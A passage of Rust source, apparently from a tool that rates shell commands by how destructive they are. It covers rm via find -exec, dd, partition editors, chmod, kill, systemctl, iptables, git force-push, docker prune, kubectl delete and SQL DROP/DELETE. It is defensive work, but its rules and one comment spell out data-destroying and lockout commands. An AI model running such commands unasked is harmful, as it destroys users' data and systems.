    let mut i = 0;
    while i < args.len() {
        let a = args[i].text.as_str();
        if matches!(a, "-exec" | "-execdir" | "-ok" | "-okdir") {
            let mut j = i + 1;
            while j < args.len() && !(args[j].text == ";" || args[j].text == "+") {
                j += 1;
            }
            let inner = &args[(i + 1).min(args.len())..j.min(args.len())];
            analyze_find_exec(inner, &starts, &mut judge_destructive, ctx.depth, acc);
            i = j;
        }
        i += 1;
    }
}

fn analyze_find_exec(
    inner: &[Word],
    starts: &[&str],
    judge: &mut dyn FnMut(&str, &mut Acc),
    depth: usize,
    acc: &mut Acc,
) {
    let Some(e) = unwrap_cmd(inner) else { return };
    let args: Vec<&str> = e.args.iter().map(|w| w.text.as_str()).collect();
    match e.name.as_str() {
        "rm" | "shred" | "unlink" => judge("-exec rm deletes", acc),
        "chmod" | "chown" | "chgrp" => {
            if starts.iter().any(|s| find_start_is_broad(s)) {
                acc.danger(format!(
                    "find -exec {} changes permissions system-wide",
                    e.name
                ));
            } else {
                acc.caution(format!(
                    "find -exec {} changes permissions of matching files",
                    e.name
                ));
            }
        }
        "mv" | "sed" | "truncate" | "cp" => {
            acc.caution(format!("find -exec {} modifies matching files", e.name))
        }
        "sh" | "bash" | "zsh" | "dash" => {
            // find … -exec sh -c 'rm -rf "$1"' _ {} \;
            if let Some(pos) = args
                .iter()
                .position(|a| a.starts_with('-') && a.contains('c'))
            {
                if let Some(script) = args.get(pos + 1) {
                    let start = starts.first().copied().unwrap_or(".");
                    let replaced = script
                        .replace("{}", start)
                        .replace("\"$1\"", start)
                        .replace("$1", start)
                        .replace("\"$@\"", start)
                        .replace("$@", start);
                    let mut sub = Acc::default();
                    assess_script(&replaced, depth + 1, &mut sub);
                    let rep = sub.finish();
                    match rep.level {
                        RiskLevel::Danger if starts.iter().any(|s| find_start_is_broad(s)) => {
                            acc.danger(format!("find -exec runs: {}", rep.reasons.join("; ")))
                        }
                        RiskLevel::Safe => {}
                        _ => {
                            acc.caution("find -exec runs a state-changing script on matching files")
                        }
                    }
                }
            }
        }
        _ => {
            let text: Vec<String> = inner
                .iter()
                .map(|w| w.text.replace("{}", starts.first().copied().unwrap_or(".")))
                .collect();
            let mut sub = Acc::default();
            assess_script(&text.join(" "), depth + 1, &mut sub);
            let rep = sub.finish();
            if rep.level > RiskLevel::Safe {
                acc.caution(format!("find -exec {} on matching files", e.name));
            }
        }
    }
}

fn analyze_dd(ctx: &Ctx, acc: &mut Acc) {
    for a in ctx.args {
        if let Some(of) = a.strip_prefix("of=") {
            if is_device(of) {
                acc.danger(format!("dd overwrites the device {of}"));
            } else if is_critical_file(of) {
                acc.danger(format!("dd overwrites the critical file {of}"));
            } else if !is_harmless_dev(of) {
                acc.caution(format!("dd writes {of}"));
            }
        }
    }
}

fn analyze_fdisk(ctx: &Ctx, acc: &mut Acc) {
    if ctx.has_flag('l', &["--list"]) || ctx.args.is_empty() {
        return;
    }
    let fed = ctx.prev.is_some()
        || ctx.cmd.redirs.iter().any(|r| {
            matches!(
                r.kind,
                RedirKind::Heredoc | RedirKind::Herestring | RedirKind::Read
            )
        });
    if fed {
        acc.danger(format!(
            "{} is fed scripted input that can rewrite the partition table",
            ctx.eff.name
        ));
    } else {
        acc.caution(format!(
            "{} opens an interactive partition editor on a disk",
            ctx.eff.name
        ));
    }
}

fn analyze_parted(ctx: &Ctx, acc: &mut Acc) {
    let writes = [
        "mklabel",
        "mktable",
        "mkpart",
        "rm",
        "resizepart",
        "mkfs",
        "mkpartfs",
        "resize",
        "move",
        "rescue",
        "name",
        "set",
        "toggle",
    ];
    let lower: Vec<String> = ctx.args.iter().map(|a| a.to_ascii_lowercase()).collect();
    if lower.iter().any(|a| writes.contains(&a.as_str())) {
        acc.danger("parted modifies the partition table");
    } else if lower
        .iter()
        .any(|a| a == "-l" || a == "--list" || a == "print" || a == "p")
    {
    } else if ctx.positionals().iter().any(|w| is_device(&w.text)) {
        acc.caution("parted opens an interactive partition editor");
    }
}

fn world_writable_mode(m: &str) -> bool {
    if m.chars().all(|c| c.is_ascii_digit()) && !m.is_empty() {
        return m
            .chars()
            .last()
            .is_some_and(|c| matches!(c, '2' | '3' | '6' | '7'));
    }
    m.split(',').any(|part| {
        let (who, rest) = part.split_at(part.find(['+', '=']).unwrap_or(part.len()));
        (who.is_empty() || who.contains('a') || who.contains('o')) && rest.contains('w')
    })
}

fn analyze_chmod(ctx: &Ctx, acc: &mut Acc) {
    let name = ctx.eff.name.as_str();
    let recursive =
        ctx.has_flag('R', &["--recursive"]) || (name == "setfacl" && ctx.has_flag('R', &[]));
    let pos = ctx.positionals();
    let (mode, targets): (Option<&str>, &[&Word]) =
        if name == "chmod" || name == "chown" || name == "chgrp" {
            match pos.split_first() {
                Some((m, rest)) => (Some(m.text.as_str()), rest),
                None => (None, &[]),
            }
        } else {
            (None, &pos[..])
        };
    // chmod's `-w` / `-x` modes look like options.
    let mode = if name == "chmod" && mode.is_some_and(|m| m.starts_with('/') || m.starts_with('.'))
    {
        ctx.args
            .iter()
            .find(|a| {
                a.starts_with('-')
                    && a.len() > 1
                    && !a.starts_with("--")
                    && !a[1..].chars().all(|c| matches!(c, 'R' | 'v' | 'f' | 'c'))
            })
            .copied()
    } else {
        mode
    };
    let ww = name == "chmod" && mode.is_some_and(world_writable_mode);
    // Giving a critical file to someone other than root is a privilege hole;
    // `chown root:root /etc/sudoers` is a repair.
    let hands_to_non_root = (name == "chown" || name == "chgrp")
        && mode.is_some_and(|owner| {
            let user = owner.split([':', '.']).next().unwrap_or("");
            !(user.is_empty() || user == "root" || user == "0")
        });
    let mut danger = false;
    let targets_all: Vec<&Word> = if name == "chmod" && mode.is_some_and(|m| m.starts_with('-')) {
        pos.clone()
    } else {
        targets.to_vec()
    };
    for w in targets_all {
        let t = w.text.as_str();
        let class = classify(t).unwrap_or(PathClass::Other);
        let system = matches!(
            class,
            PathClass::Root
                | PathClass::TopLevel(_)
                | PathClass::SystemDir(_)
                | PathClass::EmptyVarRoot(_)
        );
        if recursive && system {
            acc.danger(format!("recursive {name} on {}", class.describe()));
            danger = true;
        } else if recursive
            && name == "chmod"
            && matches!(class, PathClass::Home(_) | PathClass::HomeVital(_))
        {
            acc.danger(format!(
                "recursive chmod on {} (breaks SSH keys and private files)",
                class.describe()
            ));
            danger = true;
        } else if ww && (system || is_critical_file(t)) {
            acc.danger(format!("makes {t} world-writable"));
            danger = true;
        } else if is_critical_file(t)
            && t.starts_with("/etc/")
            && (hands_to_non_root
                || name == "chmod" && mode.is_some_and(|m| m == "000" || m == "0"))
        {
            acc.danger(format!(
                "changes ownership/permissions of the critical file {t}"
            ));
            danger = true;
        } else if !recursive && matches!(class, PathClass::Root) {
            acc.danger(format!("{name} on / itself"));
            danger = true;
        }
    }
    if !danger {
        if recursive {
            acc.caution(format!(
                "{name} -R changes ownership/permissions of a whole tree"
            ));
        } else if ww {
            acc.caution("makes files world-writable");
        } else {
            acc.caution(format!("{name} changes ownership/permissions"));
        }
    }
}

fn analyze_mv(ctx: &Ctx, acc: &mut Acc) {
    let pos = ctx.positionals();
    let Some((dest, srcs)) = pos.split_last() else {
        return;
    };
    let mut danger = false;
    for s in srcs {
        let class = classify(&s.text).unwrap_or(PathClass::Other);
        match class {
            PathClass::Root
            | PathClass::TopLevel(_)
            | PathClass::SystemDir(_)
            | PathClass::Home(_)
            | PathClass::Cwd(_)
            | PathClass::EmptyVarRoot(_)
                if dest.text == "/dev/null" || !matches!(class, PathClass::Cwd(_)) =>
            {
                acc.danger(format!(
                    "moves {} away{}",
                    class.describe(),
                    if dest.text == "/dev/null" {
                        " onto /dev/null"
                    } else {
                        ""
                    }
                ));
                danger = true;
            }
            _ => {
                if is_critical_file(&s.text) {
                    acc.danger(format!("moves the critical file {} away", s.text));
                    danger = true;
                }
            }
        }
    }
    if is_critical_file(&dest.text) || is_device(&dest.text) {
        acc.danger(format!("overwrites {}", dest.text));
        danger = true;
    }
    if !danger {
        if dest.text == "/dev/null" {
            acc.danger(
                "moves files onto /dev/null (they are lost; as root it replaces the null device)",
            );
        } else {
            acc.caution("moves or renames files (may overwrite the destination)");
        }
    }
}

// One arm per command name; folding the inner `if`s into guards would let a
// command that fails its guard fall through to unrelated later arms.
#[allow(clippy::collapsible_match)]
fn analyze_file_writers(ctx: &Ctx, acc: &mut Acc) {
    let name = ctx.eff.name.as_str();
    let pos = ctx.positionals();
    match name {
        "cp" | "install" | "ln" => {
            if let Some(dest) = pos.last().filter(|_| pos.len() >= 2) {
                if is_device(&dest.text) && name != "ln" {
                    acc.danger(format!("{name} writes over the device {}", dest.text));
                } else if if name == "ln" {
                    CRITICAL_FILES.contains(&dest.text.as_str())
                } else {
                    is_critical_file(&dest.text)
                } {
                    acc.danger(format!("{name} replaces the critical file {}", dest.text));
                } else if matches!(
                    classify(&dest.text),
                    Some(PathClass::Root | PathClass::TopLevel(_) | PathClass::SystemDir(_))
                ) || dest.text.starts_with("/etc/")
                    || dest.text.starts_with("/usr/")
                {
                    acc.caution(format!(
                        "{name} writes into the system directory {}",
                        dest.text
                    ));
                } else if ctx.has_flag('f', &["--force"]) || name == "ln" && ctx.has_flag('f', &[])
                {
                    acc.caution(format!("{name} -f overwrites existing files"));
                }
            }
        }
        "tee" => {
            for w in &pos {
                if is_device(&w.text) {
                    acc.danger(format!("tee writes over the device {}", w.text));
                } else if w.text == "/proc/sysrq-trigger" {
                    acc.danger(
                        "writes to /proc/sysrq-trigger (can crash or reboot the machine instantly)",
                    );
                } else if is_critical_file(&w.text) && !ctx.has_flag('a', &["--append"]) {
                    acc.danger(format!("tee overwrites the critical file {}", w.text));
                } else if w.text.starts_with('/')
                    && !w.text.starts_with("/tmp/")
                    && !is_harmless_dev(&w.text)
                {
                    acc.caution(format!("writes the system file {}", w.text));
                }
            }
        }
        "truncate" => {
            let shrink = ctx.args.iter().enumerate().any(|(i, a)| {
                (*a == "-s" || *a == "--size")
                    && ctx
                        .args
                        .get(i + 1)
                        .is_some_and(|v| *v == "0" || v.starts_with('-'))
                    || *a == "-s0"
                    || *a == "--size=0"
            });
            let mut danger = false;
            for w in &pos {
                if is_critical_file(&w.text) || is_device(&w.text) {
                    acc.danger(format!("truncates the critical file {}", w.text));
                    danger = true;
                }
            }
            if !danger {
                acc.caution(if shrink {
                    "truncates files (contents lost)"
                } else {
                    "changes file sizes"
                });
            }
        }
        "rsync" => {
            let dry = ctx.has_flag('n', &["--dry-run"]);
            let deletes = !dry
                && ctx
                    .args
                    .iter()
                    .any(|a| a.starts_with("--delete") || *a == "--remove-source-files");
            if deletes {
                if let Some(dest) = pos.last() {
                    let c = classify(&dest.text).unwrap_or(PathClass::Other);
                    if c != PathClass::Other {
                        acc.danger(format!(
                            "rsync --delete into {} removes everything not in the source",
                            c.describe()
                        ));
                        return;
                    }
                }
                acc.caution("rsync --delete removes files missing from the source");
            }
        }
        "tar" => {
            let extract = ctx
                .args
                .first()
                .is_some_and(|a| !a.starts_with('-') && a.contains('x'))
                || ctx.has_flag('x', &["--extract", "--get"]);
            if extract {
                if let Some(i) = ctx
                    .args
                    .iter()
                    .position(|a| *a == "-C" || a.starts_with("--directory"))
                {
                    let dir = if ctx.args[i].contains('=') {
                        ctx.args[i].split('=').nth(1).unwrap_or("")
                    } else {
                        ctx.args.get(i + 1).copied().unwrap_or("")
                    };
                    if matches!(classify(dir), Some(PathClass::Root)) {
                        acc.caution("extracts an archive over / (may overwrite system files)");
                    }
                }
                if ctx.args.iter().any(|a| {
                    a.starts_with("--overwrite")
                        || *a == "--unlink-first"
                        || *a == "--recursive-unlink"
                }) {
                    acc.caution("tar extraction overwrites existing files");
                }
            }
        }
        "sed" => {
            if ctx
                .args
                .iter()
                .any(|a| a.starts_with("-i") || a.starts_with("--in-place"))
            {
                if pos.iter().any(|w| is_critical_file(&w.text)) {
                    acc.caution("edits a critical system file in place");
                } else {
                    acc.caution("edits files in place");
                }
            }
        }
        _ => {}
    }
}

fn analyze_redirect(r: &Redir, acc: &mut Acc) {
    let t = r.target.text.as_str();
    match r.kind {
        RedirKind::Write | RedirKind::Append => {
            if is_device(t) {
                acc.danger(format!("redirects output onto the device {t}"));
            } else if t == "/proc/sysrq-trigger" {
                acc.danger(
                    "writes to /proc/sysrq-trigger (can crash or reboot the machine instantly)",
                );
            } else if is_critical_file(t) {
                if r.kind == RedirKind::Write {
                    acc.danger(format!("overwrites the critical file {t}"));
                } else {
                    acc.caution(format!("appends to the critical file {t}"));
                }
            } else if is_system_file(t) {
                acc.caution(format!("writes the system file {t}"));
            } else if is_home_dotfile(t) {
                acc.caution(format!("modifies the startup/config file {t}"));
            }
        }
        _ => {}
    }
}

fn analyze_kill(ctx: &Ctx, acc: &mut Acc) {
    let args = ctx.args;
    if args
        .iter()
        .any(|a| *a == "-l" || *a == "-L" || *a == "--list")
    {
        return;
    }
    let mut i = 0;
    let mut sig_kill = false;
    let mut pids: Vec<&str> = Vec::new();
    let mut opts_done = false;
    while i < args.len() {
        let a = args[i];
        if !opts_done && a == "--" {
            opts_done = true;
        } else if !opts_done && (a == "-s" || a == "-n") {
            sig_kill |= args.get(i + 1).is_some_and(|s| {
                matches!(s.to_ascii_uppercase().as_str(), "KILL" | "SIGKILL" | "9")
            });
            i += 1;
        } else if !opts_done && i == 0 && a.starts_with('-') && a.len() > 1 && a != "-1" {
            sig_kill |= matches!(
                a[1..].to_ascii_uppercase().as_str(),
                "9" | "KILL" | "SIGKILL"
            );
        } else if !opts_done && i == 0 && a == "-1" && args.len() > 1 {
            // `kill -1 PID`: signal 1 (HUP).
        } else {
            pids.push(a);
        }
        i += 1;
    }
    if pids.contains(&"-1") {
        acc.danger("kill -1 signals every process you may signal (as root: the whole system)");
    } else if pids.contains(&"1") && sig_kill {
        acc.danger("kills init (PID 1): the system crashes");
    } else if pids
        .iter()
        .any(|p| *p == "0" || (p.starts_with('-') && p[1..].chars().all(|c| c.is_ascii_digit())))
    {
        acc.caution("kills a whole process group");
    } else if !pids.is_empty() || ctx.eff.via_xargs {
        acc.caution(if sig_kill {
            "force-kills processes (unsaved work is lost)"
        } else {
            "terminates processes"
        });
    }
}

fn analyze_pkill(ctx: &Ctx, acc: &mut Acc) {
    let args = ctx.args;
    let user_root = args.iter().enumerate().any(|(i, a)| {
        (matches!(*a, "-u" | "-U" | "--user" | "--euid" | "--uid")
            && args.get(i + 1).is_some_and(|u| *u == "root" || *u == "0"))
            || *a == "--user=root"
            || *a == "-uroot"
    });
    let pattern_all = positionals(ctx.eff.args).iter().any(|w| {
        matches!(w.text.as_str(), "." | ".*" | "" | "^" | "-1") && !w.text.is_empty()
            || w.text == "init"
            || w.text == "systemd"
    });
    if user_root {
        acc.danger(format!(
            "{} kills every process owned by root (the system goes down)",
            ctx.eff.name
        ));
    } else if pattern_all {
        acc.danger(format!(
            "{} pattern matches every process (or init)",
            ctx.eff.name
        ));
    } else if ctx.eff.name == "killall" && args.iter().any(|a| matches!(*a, "sshd" | "ssh"))
        || ctx.eff.name == "pkill" && args.contains(&"sshd")
    {
        acc.danger("kills the SSH server (remote sessions are cut off)");
    } else if !args.is_empty() {
        acc.caution("terminates processes by name");
    }
}

const LOCKOUT_UNITS: &[&str] = &[
    "ssh",
    "sshd",
    "networking",
    "network",
    "networkmanager",
    "systemd-networkd",
    "network-manager",
    "openssh-server",
    "wpa_supplicant",
    "dbus",
    "systemd-logind",
    "ssh.socket",
    "sshd.socket",
];

fn is_lockout_unit(u: &str) -> bool {
    let u = u.to_ascii_lowercase();
    let base = u.strip_suffix(".service").unwrap_or(&u);
    LOCKOUT_UNITS.contains(&base)
}

fn analyze_systemctl(ctx: &Ctx, acc: &mut Acc) {
    let pos = ctx.positionals();
    let sub = pos.first().map(|w| w.text.as_str()).unwrap_or("");
    let units = if pos.len() > 1 { &pos[1..] } else { &[][..] };
    match sub {
        "stop" | "disable" | "mask" | "kill" => {
            if units.iter().any(|u| is_lockout_unit(&u.text)) {
                acc.danger(format!(
                    "systemctl {sub} of SSH/networking can lock you out of a remote machine"
                ));
            } else {
                acc.caution(format!("systemctl {sub} stops or disables a service"));
            }
        }
        "poweroff" | "halt" => acc.danger("powers off the machine (a remote host stays down)"),
        "reboot" | "kexec" | "soft-reboot" => acc.caution("reboots the machine"),
        "isolate" => {
            if units.iter().any(|u| {
                u.text.starts_with("rescue")
                    || u.text.starts_with("emergency")
                    || u.text.starts_with("poweroff")
                    || u.text.starts_with("halt")
            }) {
                acc.danger(
                    "switches to rescue/emergency/poweroff target (network and logins go away)",
                );
            } else {
                acc.caution("switches systemd target");
            }
        }
        "emergency" | "rescue" => {
            acc.danger("switches to rescue/emergency mode (network and logins go away)")
        }
        "restart" | "try-restart" | "reload-or-restart" => {
            if units.iter().any(|u| is_lockout_unit(&u.text)) {
                acc.caution("restarts SSH/networking (a bad config can lock you out)");
            } else {
                acc.caution(format!("systemctl {sub} changes service state"));
            }
        }
        "start" | "enable" | "reload" | "unmask" | "daemon-reload" | "daemon-reexec"
        | "set-default" | "edit" | "preset" | "set-property" | "revert" | "reset-failed"
        | "link" => {
            acc.caution(format!("systemctl {sub} changes service state"));
        }
        _ => {}
    }
}

fn analyze_service(ctx: &Ctx, acc: &mut Acc) {
    let pos = ctx.positionals();
    let unit = pos.first().map(|w| w.text.as_str()).unwrap_or("");
    let action = pos.get(1).map(|w| w.text.as_str()).unwrap_or("");
    match action {
        "stop" if is_lockout_unit(unit) => {
            acc.danger("stopping SSH/networking can lock you out of a remote machine")
        }
        "status" | "" => {}
        _ => acc.caution(format!("service {action} changes service state")),
    }
}

fn analyze_iptables(ctx: &Ctx, acc: &mut Acc) {
    let args = ctx.args;
    let flush = args.iter().any(|a| *a == "-F" || *a == "--flush")
        || args
            .iter()
            .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains('F') && a.len() <= 3);
    let policy_drop = args.iter().enumerate().any(|(i, a)| {
        (*a == "-P" || *a == "--policy")
            && args
                .get(i + 2)
                .is_some_and(|p| matches!(*p, "DROP" | "REJECT"))
            && args
                .get(i + 1)
                .is_some_and(|c| matches!(*c, "INPUT" | "OUTPUT"))
    });
    let list_only = args.iter().all(|a| {
        a.starts_with('-')
            && (a.contains('L')
                || a.contains('S')
                || a.contains('n')
                || a.contains('v')
                || *a == "--list"
                || *a == "--line-numbers")
            || matches!(
                *a,
                "INPUT" | "OUTPUT" | "FORWARD" | "nat" | "filter" | "mangle" | "-t"
            )
    });
    if flush {
        acc.danger(
            "flushes all firewall rules (the host is exposed, or locked out under a DROP policy)",
        );
    } else if policy_drop {
        acc.danger("sets a DROP default policy (can lock out remote sessions)");
    } else if !list_only {
        acc.caution("changes firewall rules");
    }
}

// One arm per command name; folding the inner `if`s into guards would let a
// command that fails its guard fall through to unrelated later arms.
#[allow(clippy::collapsible_match)]
fn analyze_git(ctx: &Ctx, acc: &mut Acc) {
    // Skip global options like -C dir, -c key=val, --git-dir=…
    let mut i = 0;
    let args = ctx.args;
    while i < args.len() && args[i].starts_with('-') {
        if matches!(args[i], "-C" | "-c") {
            i += 1;
        }
        i += 1;
    }
    let Some(sub) = args.get(i).copied() else {
        return;
    };
    let rest = &args[i + 1..];
    match sub {
        "push" => {
            let force = has_flag(rest, 'f', &["--force"])
                && !rest.iter().any(|a| {
                    a.starts_with("--force-with-lease") || a.starts_with("--force-if-includes")
                })
                || rest.iter().any(|a| a.starts_with('+') && a.len() > 1);
            if force {
                acc.danger("git push --force overwrites remote history (commits others pushed can be lost)");
            } else if rest.iter().any(|a| a.starts_with("--force-with-lease")) {
                acc.caution("force-pushes with lease: rewrites remote history, but refuses if the remote moved");
            } else if rest.contains(&"--mirror") {
                acc.caution("git push --mirror overwrites and deletes remote refs");
            } else if rest.iter().any(|a| *a == "--delete" || *a == "-d")
                || rest.iter().any(|a| a.starts_with(':') && a.len() > 1)
            {
                acc.caution("deletes a remote branch or tag");
            } else {
                acc.caution("publishes commits to a remote");
            }
        }
        "reset" => {
            if rest.contains(&"--hard") || rest.contains(&"--merge") || rest.contains(&"--keep") {
                acc.git_reset_hard = true;
                acc.caution("git reset --hard discards uncommitted changes");
            } else {
                acc.caution("git reset moves the branch pointer");
            }
        }
        "clean" => {
            let dry = has_flag(rest, 'n', &["--dry-run"]);
            let force = has_flag(rest, 'f', &["--force"]);
            if !dry && force {
                if has_flag(rest, 'x', &[]) || has_flag(rest, 'X', &[]) {
                    acc.git_clean_all = true;
                    acc.caution("git clean -x deletes untracked and ignored files (.env, build output, local config)");
                } else {
                    acc.caution("git clean deletes untracked files");
                }
            }
        }
        "checkout" | "restore" => {
            if rest.contains(&"--")
                || rest.contains(&".")
                || sub == "restore"
                || has_flag(rest, 'f', &["--force"])
            {
                acc.caution("discards local changes to files");
            }
        }
        "branch" => {
            if has_flag(rest, 'D', &[]) || rest.contains(&"--delete") && rest.contains(&"--force") {
                acc.caution("force-deletes a branch (unmerged commits become unreachable)");
            } else if has_flag(rest, 'd', &["--delete"])
                || has_flag(rest, 'm', &["--move"])
                || has_flag(rest, 'M', &[])
            {
                acc.caution("deletes or renames a branch");
            }
        }
        "stash" => {
            if matches!(rest.first().copied(), Some("drop" | "clear")) {
                acc.caution("deletes stashed changes");
            }
        }
        "rebase" | "filter-branch" | "filter-repo" | "commit"
            if sub != "commit" || rest.contains(&"--amend") =>
        {
            acc.caution("rewrites commit history")
        }
        "merge" | "pull" | "cherry-pick" | "revert" | "am" | "apply" | "rm" | "mv" | "gc"
        | "prune" | "reflog" | "update-ref" | "tag" | "remote" | "submodule" | "worktree"
        | "switch" => match sub {
            "reflog" if !rest.iter().any(|a| *a == "expire" || *a == "delete") => {}
            "tag" if !has_flag(rest, 'd', &["--delete"]) && !has_flag(rest, 'f', &["--force"]) => {}
            "remote"
                if !rest
                    .iter()
                    .any(|a| matches!(*a, "remove" | "rm" | "set-url" | "prune")) => {}
            "submodule" if !rest.iter().any(|a| matches!(*a, "deinit" | "update")) => {}
            "worktree" if !rest.iter().any(|a| matches!(*a, "remove" | "prune")) => {}
            "switch" if !has_flag(rest, 'f', &["--force", "--discard-changes"]) => {}
            "gc" if !rest.iter().any(|a| a.starts_with("--prune")) => {}
            _ => acc.caution(format!("git {sub} changes the repository")),
        },
        _ => {}
    }
}

// One arm per command name; folding the inner `if`s into guards would let a
// command that fails its guard fall through to unrelated later arms.
#[allow(clippy::collapsible_match)]
fn analyze_docker(ctx: &Ctx, acc: &mut Acc) {
    let args = ctx.args;
    let mut i = 0;
    while i < args.len() && args[i].starts_with('-') {
        if matches!(
            args[i],
            "-H" | "--host" | "--context" | "-c" | "--config" | "-l" | "--log-level"
        ) {
            i += 1;
        }
        i += 1;
    }
    let Some(sub) = args.get(i).copied() else {
        return;
    };
    let rest = &args[i + 1..];
    let rest_words = ctx.eff.args.get(i + 1..).unwrap_or(&[]);
    let name = ctx.eff.name.as_str();
    let all_from_ps = || {
        rest_words.iter().any(|w| {
            w.subs.iter().any(|s| {
                s.contains(" ps") && (s.contains("-a") || s.contains("-q"))
                    || s.contains("volume ls")
                    || s.contains("images")
            })
        }) || (ctx.eff.via_xargs
            && ctx.upstream.iter().any(|c| {
                c.words.iter().any(|w| w.text == "ps" || w.text == "ls")
                    && c.words
                        .first()
                        .is_some_and(|w| matches!(w.text.as_str(), "docker" | "podman"))
            }))
    };
    match sub {
        "system" => {
            match rest.first().copied() {
                Some("prune") => {
                    if rest.contains(&"--volumes") {
                        acc.danger(format!("{name} system prune --volumes deletes all unused volumes (database data)"));
                    } else if has_flag(rest, 'a', &["--all"]) {
                        acc.caution(format!("{name} system prune -a deletes all unused images, containers and networks"));
                    } else {
                        acc.caution(format!(
                            "{name} system prune deletes stopped containers and dangling images"
                        ));
                    }
                }
                Some("reset") => acc.danger(format!(
                    "{name} system reset deletes all containers, images and volumes"
                )),
                _ => {}
            }
        }
        "volume" => match rest.first().copied() {
            Some("prune") => acc.danger(format!(
                "{name} volume prune deletes volumes not in use (their data is lost)"
            )),
            Some("rm" | "remove") => {
                if all_from_ps() {
                    acc.danger(format!("{name} volume rm of every volume (all data lost)"));
                } else {
                    acc.caution(format!("{name} volume rm deletes a volume and its data"));
                }
            }
            _ => {}
        },
        "rm" | "container"
            if sub == "rm" || rest.first().is_some_and(|s| *s == "rm" || *s == "prune") =>
        {
            let force = has_flag(rest, 'f', &["--force"]);
            if all_from_ps() && force {
                acc.danger(format!(
                    "{name} rm -f removes every container, running ones included"
                ));
            } else {
                acc.caution(format!("{name} removes containers"));
            }
        }
        "rmi" | "image"
            if sub == "rmi" || rest.first().is_some_and(|s| *s == "rm" || *s == "prune") =>
        {
            acc.caution(format!("{name} removes images"))
        }
        "kill" | "stop" | "restart" | "pause" => {
            acc.caution(format!("{name} {sub} interrupts containers"))
        }
        "network" | "builder" | "buildx" => {
            if rest.iter().any(|a| matches!(*a, "rm" | "prune")) {
                acc.caution(format!("{name} {sub} removes resources"));
            }
        }
        "compose" => analyze_compose(rest, acc),
        "exec" | "run" => {
            // docker exec CTR sh -c '…'
            if let Some(pos) = rest
                .iter()
                .position(|a| matches!(*a, "sh" | "bash" | "/bin/sh" | "/bin/bash"))
            {
                if rest
                    .get(pos + 1)
                    .is_some_and(|a| a.starts_with('-') && a.contains('c'))
                {
                    if let Some(script) = rest.get(pos + 2) {
                        assess_script(script, ctx.depth + 1, acc);
                    }
                }
            }
            if rest.contains(&"--privileged")
                && rest
                    .iter()
                    .any(|a| a.starts_with("/:/") || a.starts_with("-v=/:"))
            {
                acc.caution("runs a privileged container with the host root mounted");
            }
        }
        _ => {}
    }
}

fn analyze_compose(args: &[&str], acc: &mut Acc) {
    let sub = args
        .iter()
        .find(|a| !a.starts_with('-'))
        .copied()
        .unwrap_or("");
    match sub {
        "down" => {
            if args.iter().any(|a| *a == "-v" || *a == "--volumes") {
                acc.caution("compose down -v deletes the project's volumes (their data is lost)");
            } else {
                acc.caution("compose down stops and removes the project's containers");
            }
        }
        "rm" | "kill" | "stop" | "restart" => {
            acc.caution(format!("compose {sub} interrupts containers"))
        }
        _ => {}
    }
}

fn analyze_kubectl(ctx: &Ctx, acc: &mut Acc) {
    let args = ctx.args;
    let Some(i) = args.iter().position(|a| !a.starts_with('-')) else {
        return;
    };
    let sub = args[i];
    let rest = &args[i + 1..];
    match sub {
        "delete" => {
            let all = rest
                .iter()
                .any(|a| *a == "--all" || *a == "-A" || *a == "--all-namespaces");
            let ns = rest.first().is_some_and(|r| {
                matches!(
                    *r,
                    "ns" | "namespace"
                        | "namespaces"
                        | "pv"
                        | "pvc"
                        | "persistentvolume"
                        | "persistentvolumeclaim"
                        | "node"
                        | "nodes"
                ) || r.starts_with("namespace/")
                    || r.starts_with("ns/")
            });
            if all || ns {
                acc.danger("kubectl delete of namespaces, volumes, nodes or everything (--all)");
            } else {
                acc.caution("kubectl delete removes cluster resources");
            }
        }
        "drain" | "cordon" | "scale" | "apply" | "replace" | "patch" | "rollout" | "edit"
        | "create" | "label" | "annotate" | "taint" | "set" => {
            acc.caution(format!("kubectl {sub} changes cluster state"))
        }
        "exec" => {
            if let Some(p) = rest.iter().position(|a| *a == "--") {
                let cmd: Vec<&str> = rest[p + 1..].to_vec();
                assess_script(&cmd.join(" "), ctx.depth + 1, acc);
            }
        }
        _ => {}
    }
}

fn sql_is_destructive(sql: &str) -> Option<&'static str> {
    let up = sql.to_ascii_uppercase();
    let norm: String = up.split_whitespace().collect::<Vec<_>>().join(" ");
    if norm.contains("DROP DATABASE") || norm.contains("DROP SCHEMA") {
        return Some("drops a whole database");
    }
    if norm.contains("DROP TABLE") || norm.contains("DROP USER") || norm.contains("DROP OWNED") {
        return Some("drops tables or users");
    }
    if norm.contains("TRUNCATE") {
        return Some("truncates tables (all rows deleted)");
    }
    for stmt in norm.split(';') {
        let s = stmt.trim();
        if (s.starts_with("DELETE FROM") || s.contains(" DELETE FROM")) && !s.contains(" WHERE ") {
            return Some("DELETE without WHERE removes every row");
        }
        if s.starts_with("UPDATE ") && !s.contains(" WHERE ") {
            return Some("UPDATE without WHERE changes every row");
        }
    }
    if norm.contains("FLUSHALL") || norm.contains("FLUSHDB") {
        return Some("flushes the whole Redis database");
    }
    if norm.contains("DROPDATABASE()") || norm.contains(".DROP()") {
        return Some("drops a MongoDB database or collection");
    }
    None
}

fn sql_mutates(sql: &str) -> bool {
    let up = sql.to_ascii_uppercase();
    [
        "INSERT", "UPDATE", "DELETE", "ALTER", "CREATE", "GRANT", "REVOKE", "DROP", "REPLACE",
        "SET ",
    ]
    .iter()
    .any(|k| up.contains(k))
}

fn analyze_sql_client(ctx: &Ctx, acc: &mut Acc) {
    let name = ctx.eff.name.as_str();
    let mut texts: Vec<String> = Vec::new();
    let args = ctx.args;
    for (i, a) in args.iter().enumerate() {
        let takes = matches!(
            *a,
            "-c" | "--command" | "-e" | "--execute" | "--eval" | "-q" | "--query" | "-Q"
        );
        if takes {
            if let Some(v) = args.get(i + 1) {
                texts.push((*v).to_string());
            }
        } else if let Some(v) = a
            .strip_prefix("--command=")
            .or_else(|| a.strip_prefix("--execute="))
            .or_else(|| a.strip_prefix("--eval="))
        {
            texts.push(v.to_string());
        } else if a.len() > 2
            && (a.starts_with("-e") && name.starts_with("mysql")
                || a.starts_with("-c") && name == "psql")
            && !a.starts_with("--")
        {
            texts.push(a[2..].to_string());
        }
    }
    if name == "sqlite3" || name == "redis-cli" {
        // sqlite3 DB "SQL"; redis-cli [opts] CMD …
        let pos = ctx.positionals();
        if name == "sqlite3" {
            if let Some(s) = pos.get(1) {
                texts.push(s.text.clone());
            }
        } else {
            texts.push(
                pos.iter()
                    .map(|w| w.text.as_str())
                    .collect::<Vec<_>>()
                    .join(" "),
            );
        }
    }
    for r in &ctx.cmd.redirs {
